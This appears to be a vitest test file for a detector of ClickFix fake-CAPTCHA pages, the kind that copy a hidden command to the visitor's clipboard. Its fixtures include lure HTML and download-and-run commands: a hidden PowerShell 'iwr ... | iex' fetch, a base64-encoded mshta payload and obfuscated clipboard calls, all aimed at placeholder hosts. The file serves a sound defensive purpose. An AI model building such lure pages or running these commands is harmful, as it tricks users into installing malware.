import { describe, expect, it } from 'vitest';

import { analyzeFakeCaptcha } from '../../src/engine/page/analyzers/fake-captcha.js';
import { alarming, fixtureInput, fromPage, htmlInput } from '../helpers/analyzer-input.js';
import { BENIGN_FIXTURES, PAGE_FIXTURES, pageFixture } from '../helpers/page-fixtures.js';

const KITS = PAGE_FIXTURES.filter((f) => f.id.startsWith('fake-captcha-'));

function run(html: string, url = 'https://verify-check.example-kit.top/') {
  const { page, context } = htmlInput(html, url);
  return { page, findings: analyzeFakeCaptcha(page, context) };
}

const LURE = `
  <h2>Verify you are human</h2>
  <ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li>
  <li>Press <kbd>Enter</kbd></li></ol>`;
const COMMAND = 'powershell -w hidden -c \\"iwr https://payload.invalid/a.ps1 | iex\\"';

describe('analyzeFakeCaptcha on the corpus', () => {
  it('has the seven ClickFix kits of the manifest', () => {
    expect(KITS).toHaveLength(7);
  });

  it.each(KITS.map((f) => [f.id, f] as const))(
    '%s: a danger ClickFix finding with the expected types and page-derived evidence',
    (_id, fixture) => {
      const { page, context } = fixtureInput(fixture);
      const findings = analyzeFakeCaptcha(page, context);
      const danger = findings.find((f) => f.id === 'clickfix_clipboard_command');
      expect(danger?.level).toBe('danger');
      const expected = fixture.expect.threat_types.filter((t) =>
        ['fake_captcha', 'pastejacking', 'brand_impersonation'].includes(t),
      );
      expect(danger?.threatTypes).toEqual(expect.arrayContaining(expected));
      expect(danger?.signals).toEqual(expect.arrayContaining(['fake_captcha', 'pastejacking']));
      expect(danger?.confidence).toBeGreaterThanOrEqual(0.85);
      expect(danger?.evidence.length).toBeGreaterThan(8);
      expect(fromPage(danger?.evidence ?? '', page)).toBe(true);
    },
  );

  it('names Google for the fake Google Meet lure and no brand on a kit that names none', () => {
    const meet = fixtureInput(pageFixture('fake-captcha-meet-winx-mshta'));
    expect(analyzeFakeCaptcha(meet.page, meet.context)[0]?.brand?.id).toBe('google');
    const macos = fixtureInput(pageFixture('fake-captcha-macos-terminal-fr'));
    expect(analyzeFakeCaptcha(macos.page, macos.context)[0]?.brand).toBeUndefined();
  });

  it('finds the msiexec command only in the injected script of the WordPress page', () => {
    const { page, context } = fixtureInput(pageFixture('fake-captcha-wp-inject-msiexec'));
    const [finding] = analyzeFakeCaptcha(page, context);
    expect(finding?.evidence).toMatch(/^msiexec \/i https:/);
    expect(page.doc.text).not.toMatch(/msiexec/i);
  });

  it.each(BENIGN_FIXTURES.map((f) => [f.id, f] as const))(
    '%s: no danger or caution finding',
    (_id, fixture) => {
      const { page, context } = fixtureInput(fixture);
      expect(alarming(analyzeFakeCaptcha(page, context))).toEqual([]);
    },
  );
});

describe('analyzeFakeCaptcha rules', () => {
  it('reports a hidden clipboard command behind fake verification and Win+R steps as danger', () => {
    const { findings, page } = run(`${LURE}
      <button id="b">I'm not a robot</button>
      <script>document.getElementById('b').onclick = function () {
        navigator.clipboard.writeText("${COMMAND}"); };</script>`);
    expect(findings.map((f) => `${f.level}:${f.id}`)).toEqual([
      'danger:clickfix_clipboard_command',
    ]);
    expect(findings[0]?.evidence).toContain('powershell -w hidden');
    expect(fromPage(findings[0]?.evidence ?? '', page)).toBe(true);
    expect(findings[0]?.text).toContain('verify you are human');
  });

  it('needs a clipboard write: the same command and lure without one is not reported', () => {
    const { findings } = run(`${LURE}<script>var command = "${COMMAND}";</script>`);
    expect(findings).toEqual([]);
  });

  it('needs the command in script: a lure quoting a command in its text is not reported', () => {
    const { findings } = run(`${LURE}<pre><code>${COMMAND.replace(/\\/g, '')}</code></pre>
      <script>document.querySelector('button').onclick = function () {
        navigator.clipboard.writeText(document.querySelector('code').textContent); };</script>`);
    expect(findings).toEqual([]);
  });

  it('stays quiet on a docs Copy button that copies the displayed install command', () => {
    const { findings } = run(
      `<h1>Install</h1><pre><code>curl -fsSL https://get.tool.invalid/install.sh | sh</code></pre>
      <p>Paste this command in a terminal and press Enter.</p>
      <script>var cmd = 'curl -fsSL https://get.tool.invalid/install.sh | sh';
        document.querySelector('button').onclick = function () { navigator.clipboard.writeText(cmd); };
      </script>`,
      'https://get-tool.dev/install',
    );
    expect(findings).toEqual([]);
  });

  it('reports a displayed command next to Run-dialog keys as caution, not danger', () => {
    const { findings } = run(
      `<p>Press Win + R and paste:</p><pre><code>curl -fsSL https://get.tool.invalid/i.sh | sh</code></pre>
      <script>document.body.onclick = function () {
        navigator.clipboard.writeText('curl -fsSL https://get.tool.invalid/i.sh | sh'); };</script>`,
    );
    expect(findings.map((f) => `${f.level}:${f.id}`)).toEqual(['caution:clipboard_command']);
  });

  it('reports a hidden command without lure or steps as caution only', () => {
    const { findings } = run(`<p>Copy your licence key.</p>
      <script>document.body.onclick = function () { navigator.clipboard.writeText("${COMMAND}"); };</script>`);
    expect(findings.map((f) => `${f.level}:${f.id}`)).toEqual(['caution:clipboard_command']);
    expect(findings[0]?.threatTypes).toEqual(['pastejacking']);
  });

  it('on a reputable domain, needs a lure for danger and obfuscation for caution', () => {
    const url = 'https://learn.microsoft.com/en-us/windows/run-dialog';
    const steps = '<p>Press Win + R, then Ctrl + V and Enter.</p>';
    const plain = run(
      `${steps}<script>document.body.onclick = function () {
        navigator.clipboard.writeText("${COMMAND}"); };</script>`,
      url,
    );
    expect(plain.findings).toEqual([]);
    const encoded = Buffer.from(COMMAND.replace(/\\/g, '')).toString('base64');
    const obfuscated = run(
      `${steps}<script>document.body.onclick = function () {
        navigator.clipboard.writeText(atob('${encoded}')); };</script>`,
      url,
    );
    expect(obfuscated.findings.map((f) => `${f.level}:${f.id}`)).toEqual([
      'caution:clipboard_command',
    ]);
    const lured = run(
      `${steps}<p>Verify you are human</p><script>document.body.onclick = function () {
        navigator.clipboard.writeText("${COMMAND}"); };</script>`,
      url,
    );
    expect(lured.findings[0]?.level).toBe('danger');
  });

  it('decodes hidden API names and a base64 payload (navigator["clip" + "board"], atob)', () => {
    const payload = Buffer.from('mshta https://kit.invalid/verify.hta').toString('base64');
    const { findings } = run(`<p>Checking your browser before accessing the website.</p>
      <script>document.body.onclick = function () {
        navigator['clip' + 'board']['write' + 'Text'](atob('${payload}')); };</script>`);
    expect(findings[0]?.id).toBe('clickfix_clipboard_command');
    expect(findings[0]?.evidence).toBe('mshta https://kit.invalid/verify.hta');
    expect(findings[0]?.text).toContain('obfuscated');
  });

  it('accepts a decoy comment in the payload as the lure, with no lure text on the page', () => {
    const { findings } = run(`<p>Loading…</p><script>
      var t = document.createElement('textarea');
      t.value = "${COMMAND} # I am not a robot - reCAPTCHA Verification ID: 4821";
      document.body.appendChild(t); t.select(); document.execCommand('copy');</script>`);
    expect(findings[0]?.level).toBe('danger');
  });

  it('reads instructions in other languages (German Windows-Taste + R)', () => {
    const { findings } =
      run(`<p>Halten Sie die Windows-Taste + R gedrückt und drücken Sie Strg + V.</p>
      <script>document.body.onclick = function () { navigator.clipboard.writeText("${COMMAND}"); };</script>`);
    expect(findings[0]?.level).toBe('danger');
  });

  it('names the brand next to the lure only on a domain the brand does not own', () => {
    const html = `<p>Verify you are human. Ray ID: 8a1d7c43be9f2e10 · Performance &amp; security by Cloudflare</p>
      <script>document.body.onclick = function () { navigator.clipboard.writeText("${COMMAND}"); };</script>`;
    expect(run(html).findings[0]?.brand?.id).toBe('cloudflare');
    expect(run(html).findings[0]?.threatTypes).toContain('brand_impersonation');
    const own = run(html, 'https://www.cloudflare.com/challenge');
    expect(own.findings[0]?.level).toBe('danger');
    expect(own.findings[0]?.brand).toBeUndefined();
  });

  it('ignores a real challenge page: verification text and Ray ID without a clipboard write', () => {
    const { findings } = run(`<p>Verify you are human by completing the action below.</p>
      <p>needs to review the security of your connection before proceeding.</p>
      <p>Ray ID: 8a1f3c7e5d9b2a40</p><script>window._cf_chl_opt = { cType: 'managed' };</script>`);
    expect(findings).toEqual([]);
  });

  it('does not take a bare launcher name for a command', () => {
    const { findings } = run(`${LURE}<script>
      navigator.clipboard.writeText('Open PowerShell and run the installer');</script>`);
    expect(findings).toEqual([]);
  });
});
